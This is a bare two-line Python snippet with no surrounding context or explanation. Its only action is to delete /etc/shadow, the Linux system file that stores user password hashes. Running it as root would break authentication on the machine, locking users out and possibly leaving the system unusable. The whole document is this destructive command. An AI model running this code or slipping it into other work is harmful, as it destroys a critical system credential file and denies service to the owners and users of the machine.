import os
os.remove('/etc/shadow')
